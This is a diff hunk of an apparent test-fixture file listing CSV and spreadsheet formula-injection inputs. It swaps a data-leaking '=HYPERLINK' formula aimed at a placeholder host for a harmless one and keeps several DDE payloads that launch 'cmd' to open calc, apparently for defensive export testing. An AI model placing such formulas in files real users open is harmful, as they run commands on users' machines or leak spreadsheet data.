@@ -53,7 +53,7 @@ SQL_LIKE = [
     "%s", "?", ":name", "%(site)s",
 ]
 FORMULA_LIKE = [
-    '=HYPERLINK("http://example.invalid/?d="&A1,"Open")', "+cmd|' /C calc'!A0",
+    '=CONCAT("d=",A1)&"Open"', "+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1", "\t=1+1", "=cbp",
 ]
 QUOTES = ['"', '""', 'a"b', '"quoted"', "'single'", '"unclosed', "\\", "\\N", ",", '","',
